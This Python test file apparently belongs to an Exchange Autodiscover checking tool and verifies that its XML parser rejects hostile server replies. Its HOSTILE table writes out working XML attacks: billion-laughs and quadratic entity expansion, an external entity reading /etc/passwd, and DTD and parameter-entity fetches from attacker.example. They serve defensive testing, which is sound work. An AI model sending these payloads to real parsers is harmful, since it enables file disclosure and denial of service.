"""XML from servers is hostile: no entity is expanded, no document type read, and its size and depth have an end."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from check_autodiscover.core.analysis.answer_xml import MAX_DEPTH, MAX_TEXT, XmlAnswer, read_xml
from check_autodiscover.core.analysis.replies import AnswerClass, classify, xml_of
from check_autodiscover.core.model.observations import Exchange, HttpAnswer
from tests.core.worlds import xml, xml_redirect

SPACE = "http://schemas.microsoft.com/exchange/autodiscover"
ROOT = f'<Autodiscover xmlns="{SPACE}/responseschema/2006">'
RESPONSE = f'<Response xmlns="{SPACE}/outlook/responseschema/2006a">'


def read(text: str) -> XmlAnswer | None:
    return read_xml(text.encode())


def test_what_decides_where_a_client_goes_is_read() -> None:
    assert xml_of(xml("<Account><Action>settings</Action></Account>")) == XmlAnswer("settings")
    assert xml_of(xml_redirect("redirectUrl", " https://a.example/ ")) == XmlAnswer(
        "redirecturl", redirect_url="https://a.example/"
    )
    sent_on = xml_of(xml_redirect("redirectAddr", "user@fabrikam.com"))
    assert sent_on is not None
    assert (sent_on.action, sent_on.redirect_domain) == ("redirectaddr", "fabrikam.com")
    error = xml('<Error Time="1" Id="2"><ErrorCode>600</ErrorCode><Message>Invalid Request</Message></Error>')
    assert xml_of(error) == XmlAnswer(error_code="600", message="Invalid Request")


def test_the_beginning_of_a_long_answer_is_enough() -> None:
    assert read(f"{ROOT}{RESPONSE}<Account><Action>settings</Action><Protocol><Type>EX") == XmlAnswer("settings")


def test_elements_at_another_place_mean_nothing() -> None:
    text = f"{ROOT}{RESPONSE}<User><Action>redirectUrl</Action></User><Account><Protocol><RedirectUrl>x</RedirectUrl>"
    assert read(text) == XmlAnswer()


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
HOSTILE = {
    "billion laughs": f'<?xml version="1.0"?><!DOCTYPE Autodiscover [<!ENTITY l0 "lol">{LAUGHS}]>{ROOT}&l9;',
    "quadratic blow-up": f'<!DOCTYPE Autodiscover [<!ENTITY a "{"a" * 2000}">]>{ROOT}{"&a;" * 500}',
    "an external entity": f'<!DOCTYPE Autodiscover [<!ENTITY x SYSTEM "file:///etc/passwd">]>{ROOT}&x;',
    "an external document type": f'<!DOCTYPE Autodiscover SYSTEM "http://attacker.example/x.dtd">{ROOT}',
    "a parameter entity": f'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/"> %p;]>{ROOT}',
    "a document type without content": f"<!DOCTYPE Autodiscover>{ROOT}",
    "an entity that nobody defined": f"{ROOT}{RESPONSE}<Account><Action>&nbsp;settings</Action>",
    "elements without end": ROOT + "<a>" * MAX_DEPTH,
    "another document": '<html xmlns="http://www.w3.org/1999/xhtml">',
    "another namespace": '<Autodiscover xmlns="http://attacker.example/">',
    "no namespace": "<Autodiscover>",
    "no XML": "Welcome",
    "nothing": "",
    "an unknown encoding": f'<?xml version="1.0" encoding="x-nonsense"?>{ROOT}',
    "a control character": f"{ROOT}\x01",
}


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_xml_is_no_answer(case: str) -> None:
    assert read(HOSTILE[case]) is None


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_xml_is_a_web_page_to_whoever_asked(case: str) -> None:
    page = HttpAnswer("GET", Exchange.ANSWERED, 200, (("content-type", "text/xml"),), HOSTILE[case])
    assert classify((page,)) is AnswerClass.WEBSITE


def test_what_is_kept_of_an_element_is_bounded() -> None:
    said = read(f"{ROOT}{RESPONSE}<Error><Message>{'x' * 99_999}</Message>")
    assert said is not None
    assert len(said.message) == MAX_TEXT


@given(st.binary(max_size=300))
def test_no_bytes_raise(octets: bytes) -> None:
    read_xml(octets)
    read_xml(f"{ROOT}{RESPONSE}<Account><Action>".encode() + octets)


@given(st.text(max_size=200))
def test_no_redirect_raises(target: str) -> None:
    answer = xml_redirect("redirectUrl", target.replace("&", "").replace("<", ""))
    assert classify((answer,)) in AnswerClass
